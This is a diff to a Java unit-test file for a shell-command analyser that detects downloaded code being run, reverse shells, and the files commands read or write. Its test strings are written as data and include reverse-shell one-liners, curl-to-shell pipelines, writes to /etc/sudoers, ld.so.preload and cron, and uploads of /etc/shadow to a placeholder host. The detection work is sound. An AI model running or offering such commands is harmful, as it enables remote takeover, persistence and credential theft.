@@ -10,6 +10,7 @@ import java.util.stream.IntStream;
 import java.util.stream.LongStream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -97,6 +98,10 @@ class ShellTextTest {
         "echo \"base64 -d x | sh\"",
         "# base64 -d x | sh",
         "base64 -d x 2>/dev/null | tee y | wc -l",
+        "base64 -d x | xargs rm",
+        "base64 -d x | xargs sh -c 'echo \"$@\"' _",
+        "cd /tmp; base64 -d x > y; cd /; sh y",
+        "(cd /tmp; base64 -d x > y); sh y",
       })
   void decodedTextThatIsNotRunIsQuiet(String text) {
     assertThat(of(text).runsOutputOf(DECODERS)).isFalse();
@@ -118,6 +123,21 @@ class ShellTextTest {
         "bash -c \"$(curl -fsSL http://x)\"",
         "sh <(curl -s http://x)",
         "busybox wget -O - http://x | sh",
+        "curl http://x | xargs -I{} sh -c {}",
+        "curl http://x | xargs -0 bash -c",
+        "curl http://x | source /dev/stdin",
+        ". /dev/stdin <<< \"$(curl http://x)\"",
+        "cd /tmp && wget -q http://x/m && chmod +x m && ./m",
+        "cd /tmp && wget -q http://x/m; cd /; /tmp/m",
+        "cd \"$(mktemp -d)\"; curl -sO http://x/m; ./m",
+        "(cd /opt; curl -sO http://x/m); sh /opt/m",
+        "curl -o /tmp/m http://x && mv /tmp/m /usr/local/bin/m && m -d",
+        "curl -o m.gz http://x; gunzip m.gz; ./m",
+        "curl -so /tmp/a http://x; cp /tmp/a /tmp/b; bash /tmp/b",
+        "curl http://x | tee /tmp/a | sudo -u app bash -s -- -y",
+        "curl http://x > /tmp/a; python3.11 /tmp/a",
+        "curl http://x | perl5.36",
+        "fetch() { curl http://x; }; curl http://x | ruby",
       })
   void downloadThatIsRunIsFound(String text) {
     assertThat(of(text).runsOutputOf(DOWNLOADERS)).isTrue();
@@ -136,6 +156,12 @@ class ShellTextTest {
         "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 9 >/tmp/f",
         "telnet 1.2.3.4 9 | sh | telnet 1.2.3.4 10",
         "nc 1.2.3.4 9 | bash",
+        "zmodload zsh/net/tcp && ztcp 1.2.3.4 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
+        "exec {fd}<>/dev/tcp/1.2.3.4/9; bash -i <&$fd >&$fd",
+        "exec {fd}<>/dev/tcp/1.2.3.4/9; bash -i <&${fd} >&${fd}",
+        "coproc nc 1.2.3.4 9; bash <&${COPROC[0]} >&${COPROC[1]}",
+        "sh -i 5<> /dev/tcp/1.2.3.4/9 0<&5 1>&5 2>&5",
+        "bash -c 'exec bash -i &>/dev/tcp/1.2.3.4/9 <&1'",
       })
   void shellTiedToAConnectionIsFound(String text) {
     assertThat(of(text).runsOutputOf(SOCKETS)).isTrue();
@@ -149,6 +175,8 @@ class ShellTextTest {
         "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/h/80'",
         "while ! nc -z db 5432; do sleep 1; done; exec sh run.sh",
         "echo ruok | nc localhost 2181 | grep imok",
+        "exec {fd}<>/dev/tcp/db/5432; exec {fd}>&-; sh run.sh",
+        "coproc nc -z db 5432; wait; bash run.sh",
       })
   void waitingForAPortIsQuiet(String text) {
     assertThat(of(text).runsOutputOf(SOCKETS)).isFalse();
@@ -161,6 +189,81 @@ class ShellTextTest {
         .containsExactly("[sudo -E curl -k x, curl -k x]", "[cat]", "[nginx]");
   }
 
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '#',
+      quoteCharacter = '`',
+      value = {
+        "echo x > /etc/ld.so.preload          # /etc/ld.so.preload",
+        "echo x >> ../etc/rc.local            # /etc/rc.local",
+        "{ echo a; echo b; } > /etc/x         # /etc/x",
+        "(cd /; id) &> /y                     # /y",
+        "> /var/log/wtmp                      # /var/log/wtmp",
+        ": > f                                # /app/f",
+        "echo x >| /a                         # /a",
+        "`cat <<E > /etc/cron.d/x\nline\nE\n` # /etc/cron.d/x",
+        "echo x | sudo tee -a /etc/sudoers    # /etc/sudoers",
+        "dd if=/a of=/b bs=1                  # /b",
+        "cp -a /a /b/c                        # /b/c",
+        "cp -t /b /a/c                        # /b/c",
+        "mv /a /b                             # /b",
+        "install -m 755 /a /etc/init.d/       # /etc/init.d",
+        "ln -sf /a /b                         # /b",
+        "sed -i s/a/b/ /etc/ssh/sshd_config   # /etc/ssh/sshd_config",
+        "sed -i.bak -e s/a/b/ /c              # /c",
+        "curl -o/opt/k http://x/k             # /opt/k",
+        "wget -P /opt http://x/m?a            # /opt/m",
+        "touch /a                             # /a",
+        "truncate -s 0 /var/log/x             # /var/log/x",
+        "perl -pi -e s/a/b/ /a                # /a",
+        "ruby -i.bak x.rb /a                  # /a",
+        "ed -s /a                             # /a",
+        "for d in x y; do tee \"/b/$d\"; done  # /b/y",
+      })
+  void filesThatAreWrittenAreKnown(String text, String path) {
+    assertThat(of(text).commands().stream().flatMap(line -> line.effective().writes().stream()))
+        .contains(path);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "cat /a",
+        "echo > \"/b\" < /a",
+        "sed s/a/b/ /c",
+        "echo /a",
+        "tee",
+        "id 2>/dev/null",
+        "curl http://x/k"
+      })
+  void whatIsReadOrPrintedIsNotWritten(String text) {
+    assertThat(of(text).commands().stream().flatMap(line -> line.effective().writes().stream()))
+        .doesNotContain("/a", "/c", "/app/k", "/dev/null");
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "cat /etc/shadow                               | /etc/shadow",
+        "cat ../etc/shadow                             | /etc/shadow",
+        "cat < /etc/shadow                             | /etc/shadow",
+        "while read l; do echo $l; done < /etc/shadow  | /etc/shadow",
+        "dd if=/etc/shadow                             | /etc/shadow",
+        "curl -d @/etc/shadow http://x                 | /etc/shadow",
+        "curl -F f=@/etc/shadow;type=x http://x        | /etc/shadow",
+        "curl --data-binary=@/etc/shadow http://x      | /etc/shadow",
+        "curl -T /etc/shadow http://x                  | /etc/shadow",
+        "curl file:///etc/shadow                       | /etc/shadow",
+        "wget --post-file=/etc/shadow http://x         | /etc/shadow",
+        "tar cf - /etc/shadow                          | /etc/shadow",
+        "grep -f /etc/shadow x                         | /etc/shadow",
+      })
+  void filesThatAreReadAreKnown(String text, String path) {
+    assertThat(of(text).commands().stream().flatMap(line -> line.effective().reads().stream()))
+        .contains(path);
+  }
+
   /** 100 shells that read each other, asked for 20,000 sources: each is looked at once. */
   @Test
   void manySourcesAndCommandsCostTheirSum() {
@@ -168,6 +271,22 @@ class ShellTextTest {
 
     assertThat(of("a | sh" + " | sh".repeat(100)).runsOutputOf(sources)).isFalse();
     assertThat(of("tool19999 -x" + " | sh".repeat(100)).runsOutputOf(sources)).isTrue();
+  }
+
+  @Test
+  void loopIsReadOnceForEachValue() {
+    ShellText text = of("for a in 1 2; do for b in 3 4; do id $a$b; done; done | wc; ls");
+
+    assertThat(text.commands().stream().map(line -> line.effective().toString()))
+        .containsExactly("id 13", "id 14", "id 23", "id 24", "wc", "ls");
+    assertThat(text.isComplete()).isTrue();
+  }
+
+  @Test
+  void loopsInLoopsAreBounded() {
+    ShellText text = of("for a in 1 2 3 4 5 6 7 8 9; do ".repeat(12) + "x=1" + "; done".repeat(12));
+
+    assertThat(text.isComplete()).isFalse();
   }
 
   @Test
